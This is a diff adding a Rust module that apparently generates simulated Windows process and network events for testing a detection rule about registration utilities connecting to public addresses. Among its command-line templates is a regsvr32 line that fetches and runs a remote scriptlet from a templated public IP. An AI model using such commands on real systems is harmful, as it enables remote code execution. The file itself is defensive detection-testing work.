@@ -1,0 +1,204 @@
+//! What is planted among the ordinary work: attacks that the built-in rule must find, and events that only look like them.
+//!
+//! Which rule that is, is known here in words only: a registration utility is started and then, as the same process, connects to a public address by
+//! something other than DNS. That an image load counts as a start is why nothing is loaded after the first connection.
+
+use super::host::{Host, Process, Remote, Written};
+use super::programs::{Account, Program, Talks};
+use super::random::Random;
+use std::collections::VecDeque;
+use std::rc::Rc;
+
+const fn utility(
+    image: &'static str,
+    description: &'static str,
+    original: &'static str,
+    account: Account,
+    lines: &'static [&'static str],
+) -> Program {
+    Program {
+        image,
+        version: "10.0.19041.3636 (WinBuild.160101.0800)",
+        description,
+        product: "Microsoft® Windows® Operating System",
+        company: "Microsoft Corporation",
+        original,
+        lines,
+        account,
+        talks: Talks::Anywhere,
+        parents: &[],
+        weight: 0,
+    }
+}
+
+/// The utilities as an attacker, or an administrator, starts them.
+static UTILITIES: &[Program] = &[
+    utility(
+        r"C:\Windows\System32\regsvr32.exe",
+        "Microsoft(C) Register Server",
+        "REGSVR32.EXE",
+        Account::User,
+        &[
+            "regsvr32.exe /s /n /u /i:http://104.21.36.{byte}/{word}.sct scrobj.dll",
+            r"regsvr32 /s C:\Users\{user}\AppData\Local\Temp\{word}.ocx",
+        ],
+    ),
+    utility(
+        r"C:\Windows\SysWOW64\REGSVR32.EXE",
+        "Microsoft(C) Register Server",
+        "REGSVR32.EXE",
+        Account::User,
+        &[r#""C:\Windows\SysWOW64\REGSVR32.EXE" /s C:\ProgramData\{word}{n}.dat"#],
+    ),
+    utility(
+        r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\RegAsm.exe",
+        "Microsoft .NET Assembly Registration Utility",
+        "RegAsm.exe",
+        Account::User,
+        &[r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\RegAsm.exe /U C:\Users\{user}\Downloads\{word}.dll"],
+    ),
+    utility(
+        r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\RegSvcs.exe",
+        "Microsoft .NET Services Installation Utility",
+        "RegSvcs.exe",
+        Account::User,
+        &[r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\RegSvcs.exe"],
+    ),
+];
+
+static INSTALLER: Program = utility(
+    r"C:\Windows\System32\msiexec.exe",
+    "Windows® installer",
+    "msiexec.exe",
+    Account::System,
+    &[r"C:\Windows\system32\msiexec.exe /V", r"C:\Windows\System32\MsiExec.exe -Embedding {hex}{hex} E Global\MSI0000"],
+);
+
+/// The utility as an installation starts it, with System's rights.
+static INSTALLED: Program = utility(
+    r"C:\Windows\System32\regsvr32.exe",
+    "Microsoft(C) Register Server",
+    "REGSVR32.EXE",
+    Account::System,
+    &[r#""C:\Windows\System32\regsvr32.exe" /s "C:\Program Files\{word}\{word}.dll""#],
+);
+
+/// Events still to come, in order.
+pub(super) struct Plant(VecDeque<Step>);
+
+struct Step {
+    process: Rc<Process>,
+    what: What,
+}
+
+enum What {
+    Start(Option<Rc<Process>>),
+    Load,
+    Query,
+    Connect(Remote),
+    File,
+    End,
+}
+
+/// Collects the steps of one process.
+struct Script {
+    steps: VecDeque<Step>,
+    process: Rc<Process>,
+}
+
+impl Script {
+    fn then(mut self, what: What) -> Self {
+        self.steps.push_back(Step { process: Rc::clone(&self.process), what });
+        self
+    }
+
+    fn maybe(self, random: &mut Random, chance: u64, what: What) -> Self {
+        if random.percent(chance) { self.then(what) } else { self }
+    }
+
+    fn of(process: Rc<Process>) -> Self {
+        Self { steps: VecDeque::new(), process }
+    }
+
+    fn ends(self) -> Plant {
+        Plant(self.then(What::End).steps)
+    }
+}
+
+impl Plant {
+    /// A registration utility is started and connects to a public address.
+    pub(super) fn attack(host: &mut Host) -> Self {
+        let (mut script, parent) = by_hand(host);
+        script = script.then(What::Start(parent));
+        let random = &mut host.random;
+        script = script.maybe(random, 40, What::Load).maybe(random, 50, What::Query);
+        script = script.then(What::Connect(host.public()));
+        let again = What::Connect(host.public());
+        let random = &mut host.random;
+        script.maybe(random, 30, again).maybe(random, 30, What::File).ends()
+    }
+
+    /// One of the things that must not be found.
+    pub(super) fn look_alike(host: &mut Host) -> Self {
+        match host.random.below(4) {
+            // Only the own network is asked.
+            0 => {
+                let (script, parent) = by_hand(host);
+                let remote = host.private();
+                script.then(What::Start(parent)).then(What::Query).then(What::Connect(remote)).ends()
+            }
+            // An installation that runs as System.
+            1 => {
+                let installer = host.process(&INSTALLER);
+                let services = host.running_named(&["services.exe"]);
+                let process = host.process(&INSTALLED);
+                let mut script = Script::of(Rc::clone(&installer)).then(What::Start(services));
+                script.process = process;
+                script = script.then(What::Start(Some(Rc::clone(&installer)))).then(What::Connect(host.public()));
+                script = script.then(What::End);
+                script.process = installer;
+                script.ends()
+            }
+            // Only a name server is asked.
+            2 => {
+                let (script, parent) = by_hand(host);
+                let remote = Remote { port: 53, port_name: "dns", udp: true, ..host.public() };
+                script.then(What::Start(parent)).then(What::Query).then(What::Connect(remote)).ends()
+            }
+            // One process is started, and another one, whose start was never logged, connects.
+            _ => {
+                let (mut script, parent) = by_hand(host);
+                let started = Rc::clone(&script.process);
+                script = script.then(What::Start(parent));
+                script.process = host.process(started.program);
+                script = script.then(What::Connect(host.public()));
+                script.process = started;
+                script.ends()
+            }
+        }
+    }
+
+    pub(super) fn is_done(&self) -> bool {
+        self.0.is_empty()
+    }
+
+    /// Writes the next event; `None` if there is none.
+    pub(super) fn next(&mut self, host: &mut Host) -> Option<Written> {
+        let Step { process, what } = self.0.pop_front()?;
+        Some(match what {
+            What::Start(parent) => host.start(&process, parent.as_deref()),
+            What::Load => host.load(&process),
+            What::Query => host.query(&process),
+            What::Connect(remote) => host.connection(&process, &remote),
+            What::File => host.file(&process),
+            What::End => host.end(&process),
+        })
+    }
+}
+
+/// A utility that the user starts from something that runs, and its parent.
+fn by_hand(host: &mut Host) -> (Script, Option<Rc<Process>>) {
+    let program = host.random.pick(UTILITIES);
+    let parent = host.running_named(&["cmd.exe", "powershell.exe", "explorer.exe", "WINWORD.EXE"]);
+    (Script::of(host.process(program)), parent)
+}
